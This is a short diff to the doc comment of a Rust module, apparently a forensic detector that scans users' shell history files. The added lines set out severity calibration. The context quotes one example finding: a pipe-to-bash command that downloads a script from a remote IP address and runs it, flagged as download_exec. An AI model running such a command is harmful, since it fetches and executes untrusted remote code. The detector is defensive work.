@@ -21,6 +21,10 @@
 //! **Example:** `/root/.bash_history` line 212 (2026-11-27 03:12:09 UTC):
 //! `curl -fsSL http://198.51.100.4/x.sh | bash` → download_exec, high.
 //!
+//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
+//! medium for what needs a look, low and info for context; a weakness rather than an act is
+//! marked `hardening` (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1059.004 (Unix Shell), plus the technique of every rule that matched.
 
 use huoyan_artifacts::history::read_user_histories;
